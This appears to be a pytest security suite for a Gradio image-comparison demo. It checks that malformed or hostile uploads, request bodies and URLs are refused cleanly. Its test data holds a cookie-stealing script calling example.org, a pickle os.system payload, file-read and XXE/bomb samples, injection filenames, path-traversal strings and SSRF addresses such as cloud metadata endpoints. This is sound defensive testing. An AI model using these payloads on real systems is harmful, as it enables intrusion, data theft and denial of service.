"""Whatever is sent to the running demo: a sentence comes back, nothing of the server's own, and it answers the next one."""

import http.client
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import numpy as np
import pytest
from app_fixtures import App, as_file, assert_one_sentence, compare_over_http, upload
from gradio_client import handle_file
from gradio_client.exceptions import AppError
from hostile_files import PNG_SIGNATURE, chunk, claimed_png
from PIL import Image, PngImagePlugin

from siamese.images.load import MAX_PIXELS, MAX_SIDE

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def app(served_app) -> App:
    return served_app


@pytest.fixture(scope="module")
def digit(digits, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("digit") / "digit.png"
    Image.fromarray(digits[0][0]).save(path)
    return path


def encoded(image: Image.Image, kind: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def zipped(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.png", content)
    return buffer.getvalue()


def float_tiff(value: float) -> bytes:
    values = np.linspace(0, 1, 1600, dtype=np.float32).reshape(40, 40)
    values[20, 20] = value
    return encoded(Image.fromarray(values), "TIFF")


GREY = Image.linear_gradient("L")
PHOTO = encoded(GREY.convert("RGB"), "JPEG")
SCRIPT = b"<script>fetch('https://example.org/'+document.cookie)</script>"
HUGE = (1 << 31) - 1

# Name of the file: its content, and words of the refusal.
FILES: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    "nothing.png": (b"", "is not an image"),
    "one byte.png": (b"\x89", "is not an image"),
    "zeros.png": (bytes(4096), "is not an image"),
    "signature alone.png": (PNG_SIGNATURE, "is not an image"),
    "header alone.png": (PNG_SIGNATURE + chunk(b"IHDR", struct.pack(">IIBBBBB", 28, 28, 8, 0, 0, 0, 0)), "is not an image"),
    "wrong checksum.png": (encoded(GREY, "PNG").replace(b"IDAT", b"IDAX"), "is not an image"),
    "no rows.png": (claimed_png(28, 28), "damaged"),
    "width of zero.png": (claimed_png(0, 28), ""),
    "a gigabyte of claimed pixels.png": (claimed_png(32_000, 32_000), "too large"),
    "a gigabyte of real zeros.png": (lambda: claimed_png(32_000, 32_000, bytes(1 << 30)), "too large"),
    "largest claim.png": (claimed_png(HUGE, HUGE), "too large"),
    "long and thin.png": (claimed_png(1, MAX_SIDE + 1, bytes(2 * (MAX_SIDE + 1))), f"{MAX_SIDE}"),
    "one pixel.png": (encoded(Image.new("L", (1, 1)), "PNG"), "blank"),
    "transparent.png": (encoded(Image.new("RGBA", (64, 64)), "PNG"), "blank"),
    "one colour.png": (encoded(Image.new("RGB", (64, 64), (200, 30, 30)), "PNG"), "blank"),
    "text bomb.png": (
        claimed_png(
            28, 28, bytes(29 * 28), extra=chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(PngImagePlugin.MAX_TEXT_MEMORY)))
        ),
        "",
    ),
    "profile bomb.png": (
        claimed_png(28, 28, bytes(29 * 28), extra=chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(1 << 27)))),
        "",
    ),
    "cut in the middle.jpg": (PHOTO[: len(PHOTO) // 2], "damaged"),
    "markers alone.jpg": (b"\xff\xd8\xff\xe0", "is not an image"),
    "largest claim.jpg": (PHOTO.replace(b"\x08" + struct.pack(">HH", 256, 256), b"\x08\xff\xff\xff\xff", 1), "too large"),
    "no frame.gif": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", ""),
    "largest claim.gif": (b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x02\0;", ""),
    "negative.bmp": (b"BM" + struct.pack("<IIIIiiHHIIIIII", 100, 0, 54, 40, -5, -5, 1, 24, 0, 0, 0, 0, 0, 0), ""),
    "largest claim.bmp": (b"BM" + struct.pack("<IIIIiiHHIIIIII", 100, 0, 54, 40, HUGE, HUGE, 1, 24, 0, 0, 0, 0, 0, 0), ""),
    "circle.tif": (b"II*\0\x08\0\0\0" + struct.pack("<H", 0) + struct.pack("<I", 8), ""),
    "tags beyond the end.tif": (b"II*\0\x08\0\0\0" + struct.pack("<H", 65535), ""),
    "not a number.tif": (float_tiff(float("nan")), "not finite"),
    "infinite.tif": (float_tiff(float("inf")), "not finite"),
    "cut.webp": (encoded(GREY, "WEBP")[:100], ""),
    "largest claim.pgm": (b"P5 99999999 99999999 255 ", "too large"),
    "no white.pgm": (b"P5 28 28 0 " + bytes(784), ""),
    "words for pixels.ppm": (b"P3 28 28 255 many few none", ""),
    "cut.ico": (encoded(GREY, "ICO")[:60], ""),
    "program.eps": (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n%%EOF", ""),
    "paper.pdf": (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "is not an image",
    ),
    "drawing.svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>', "is not an image"),
    "script.svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>", "is not an image"),
    "laughs.svg": (b'<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><svg>&b;</svg>', "is not an image"),
    "page.html": (b"<!doctype html>" + SCRIPT, "is not an image"),
    "page.png": (b"<!doctype html>" + SCRIPT, "is not an image"),
    "archive.zip": (zipped(b"\0" * 100_000), "is not an image"),
    "archive.png": (zipped(PHOTO), "is not an image"),
    "packed.gz": (b"\x1f\x8b\x08" + bytes(20), "is not an image"),
    "pickle.png": (b"\x80\x04cos\nsystem\n(S'touch /tmp/harmed'\ntR.", "is not an image"),
    "array.npy": (b"\x93NUMPY\x01\x00v\x00{'descr': '|O'}", "is not an image"),
    "program.exe": (b"MZ\x90\0" + bytes(200), "is not an image"),
    "program": (b"\x7fELF" + bytes(200), "is not an image"),
    "film.mp4": (b"\0\0\0\x18ftypmp42" + bytes(200), ""),
    "sound.wav": (b"RIFF\x24\0\0\0WAVEfmt " + bytes(200), ""),
    "<img src=x onerror=alert(1)>.png": (b"x", "is not an image"),
    "' or 1=1; --.png": (b"x", "is not an image"),
    "../../../etc/cron.d/x.png": (b"x", "is not an image"),
    "имя 数字 🙂.png": (b"x", "is not an image"),
    f"{'long' * 60}.png": (b"x", "is not an image"),
}


def refusal(app: App, value: object) -> str:
    """What is said of `value` as the first image; it is not compared."""
    event, data = compare_over_http(app, [value, value])
    assert event == "error", data
    return data["error"]


@pytest.mark.parametrize("name", FILES, ids=lambda name: name[:40])
def test_a_file_that_is_no_picture_is_refused_in_a_sentence(name, app, client, digit):
    content, words = FILES[name]
    message = refusal(app, as_file(upload(app, name, content() if callable(content) else content)))
    assert_one_sentence(message, "image_a", words)
    assert "/tmp" not in message.replace("touch /tmp", "")
    assert client.predict(image_a=handle_file(digit), image_b=handle_file(digit), api_name="/compare")["is_same"]


def test_a_picture_that_is_also_a_page_is_just_a_picture(app, digit):
    """Its bytes are never sent to a browser as anything that runs."""
    both = digit.read_bytes() + b"<html>" + SCRIPT
    path = upload(app, "both.html", both)
    event, data = compare_over_http(app, [as_file(path), as_file(path)])
    assert event == "complete"
    assert data[0]["is_same"]
    address = urlsplit(app.url)
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=30)
    connection.request("GET", f"/gradio_api/file={path}")
    answer = connection.getresponse()
    is_download = "attachment" in (answer.getheader("Content-Disposition") or "")
    assert answer.status >= 400 or is_download or "html" not in (answer.getheader("Content-Type") or "")


NOT_FILES = [
    float("nan"), float("inf"), -0.0, 10**400, 1e308, "", "a" * 400_000, "\0", [[[[[]]]]], [None] * 10_000,
    {"path": None}, {"meta": {"_type": "gradio.FileData"}}, {"": {"": {"": {}}}}, {"path": {"path": {"path": "x"}}},
    as_file(None), as_file(5), as_file(["a"]), as_file({}), as_file(""), as_file("\0"), as_file("a" * 100_000),
    as_file("."), as_file(".."), as_file("/"), as_file("/etc/passwd"), as_file("/proc/self/environ"), as_file("/dev/zero"),
    as_file("/dev/stdin"), as_file("~/.ssh/id_rsa"), as_file("file:///etc/passwd"), as_file("\\\\host\\share\\a.png"),
    as_file("C:\\Windows\\win.ini"), as_file("%2e%2e/%2e%2e/etc/passwd"), as_file("....//....//etc/passwd"),
]  # fmt: skip


@pytest.mark.parametrize("value", NOT_FILES, ids=lambda value: repr(value)[:40])
def test_a_value_that_is_no_uploaded_file_is_refused_in_a_sentence(value, app, client, digit):
    message = refusal(app, value)
    assert_one_sentence(message, "handle_file")
    assert len(message) < 500
    assert client.predict(image_a=handle_file(digit), image_b=handle_file(digit), api_name="/compare")["is_same"]


ADDRESSES = [
    "http://127.0.0.1:{port}/health", "http://localhost:{port}/health", "http://[::1]:{port}/health",
    "http://0.0.0.0:{port}/health", "http://2130706433:{port}/health", "http://0x7f.1:{port}/health",
    "http://[::ffff:127.0.0.1]:{port}/health", "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/a.png",
    "http://192.168.0.1/a.png", "https://user:word@127.0.0.1/a.png", "ftp://127.0.0.1/a.png", "gopher://127.0.0.1:25/x",
    "file://localhost/etc/passwd", "dict://127.0.0.1:11211/stats", "javascript:alert(1)", "//127.0.0.1:{port}/health",
    "data:text/html,<script>alert(1)</script>", "http://", "http://a b/", "http://example.org:99999/a.png",
]  # fmt: skip


@pytest.mark.parametrize("address", ADDRESSES)
def test_the_server_fetches_nothing_from_where_only_it_can_reach(address, app):
    address = address.format(port=urlsplit(app.url).port)
    for value in (as_file(address) | {"url": address}, as_file(address)):
        message = refusal(app, value)
        assert_one_sentence(message, "handle_file")
        assert "status" not in message


def send(app: App, path: str, body: bytes, kind: str = "application/json", method: str = "POST") -> tuple[int, str]:
    """Status and text that come back, without waiting for more than the server's answer."""
    address = urlsplit(app.url)
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=30)
    try:
        connection.request(method, path, body, {"Content-Type": kind})
        answer = connection.getresponse()
        return answer.status, answer.read(100_000).decode(errors="replace")
    finally:
        connection.close()


BODIES = [
    b"", b"null", b"[]", b"{}", b"{", b'{"data": null}', b'{"data": {}}', b'{"data": 5}', b"\xff\xfe", b"[" * 100_000,
    b'{"data": ' + b"[" * 5_000 + b"]" * 5_000 + b"}", b'{"data": [], "session_hash": {}}', b'{"a":' * 1_000,
]  # fmt: skip


@pytest.mark.parametrize("path", ["/gradio_api/call/compare", "/gradio_api/queue/join", "/gradio_api/run/predict"])
def test_a_body_that_is_no_request_is_refused(path, app, client, digit):
    for body in BODIES:
        status, text = send(app, path, body)
        assert 400 <= status < 500 or (status == 200 and "event_id" in text)
        assert "Traceback" not in text
        assert ".py" not in text
    assert client.predict(image_a=handle_file(digit), image_b=handle_file(digit), api_name="/compare")["is_same"]


def test_a_request_of_a_gigabyte_is_refused_before_it_is_read(app):
    """By its length where it says one, and else by what has come."""
    address = urlsplit(app.url)
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=30)
    connection.putrequest("POST", "/gradio_api/queue/join")
    connection.putheader("Content-Type", "application/json")
    connection.putheader("Content-Length", str(1 << 30))
    connection.endheaders()
    answer = connection.getresponse()
    assert answer.status == 413
    assert_one_sentence(answer.read().decode(), "is what is allowed")
    connection.close()

    pieces = (bytes(1 << 20) for _ in range(64))
    connection = http.client.HTTPConnection(address.hostname, address.port, timeout=30)
    try:
        kind = {"Content-Type": "application/json"}
        connection.request("POST", "/gradio_api/queue/join", pieces, kind, encode_chunked=True)
        assert connection.getresponse().status == 413
    except (BrokenPipeError, ConnectionResetError):  # it hung up while more was on its way
        pass
    finally:
        connection.close()
    assert send(app, "/health", b"", method="GET")[0] == 200


CLOSED = [
    ("POST", "/gradio_api/process_recording"), ("POST", "/gradio_api/component_server"), ("GET", "/gradio_api/dev/reload"),
    ("GET", "/monitoring"), ("GET", "/monitoring/summary"), ("GET", "/gradio_api/proxy=https://a.hf.space/"),
    ("GET", "/gradio_api/file=http://127.0.0.1/"), ("GET", "/gradio_api/deep_link?session_hash=x"), ("GET", "/openapi.json"),
    ("POST", "/gradio_api/vibe-edit"), ("GET", "/gradio_api/vibe-code"), ("POST", "/gradio_api/api/compare"),
]  # fmt: skip


@pytest.mark.parametrize(("method", "path"), CLOSED)
def test_what_the_page_does_not_need_is_not_there(method, path, app):
    """Above all what leaves files behind, asks other servers, or looks for news 20 times a second."""
    status, text = send(app, path, bytes(1000) if method == "POST" else b"", "multipart/form-data; boundary=x", method)
    assert status == 404
    assert_one_sentence(json.loads(text)["detail"], "there is nothing here")


PATHS = [
    "/gradio_api/file=/etc/passwd", "/gradio_api/file=app.py", "/gradio_api/file=../app.py", "/file=/etc/passwd",
    "/gradio_api/file=%2Fetc%2Fpasswd", "/gradio_api/file=/proc/self/environ", "/static/../../app.py",
    "/assets/..%2f..%2fapp.py", "/gradio_api/proxy=http://127.0.0.1/", "/gradio_api/proxy=http://169.254.169.254/",
    "/gradio_api/stream/x/y/z/playlist.m3u8", "/theme.css/../../../etc/passwd", "/svelte/../../../etc/passwd",
]  # fmt: skip


@pytest.mark.parametrize("path", PATHS)
def test_no_file_of_the_server_and_no_other_address_is_had_through_it(path, app):
    status, text = send(app, path, b"", method="GET")
    assert status >= 400 or "<!doctype html" in text.lower()
    assert "root:" not in text
    assert "def build_demo" not in text
    assert "PATH=" not in text


def test_the_public_client_gets_the_same_sentences(client, digit, tmp_path):
    bad = tmp_path / "bad.png"
    bad.write_bytes(claimed_png(32_000, 32_000))
    with pytest.raises(AppError) as caught:
        client.predict(image_a=handle_file(bad), image_b=handle_file(digit), api_name="/compare")
    assert_one_sentence(str(caught.value), f"{MAX_PIXELS:,} pixels")


def test_wrong_methods_are_refused(app):
    for method in ("PUT", "DELETE", "PATCH"):
        assert 400 <= send(app, "/gradio_api/call/compare", b"{}", method=method)[0] < 500
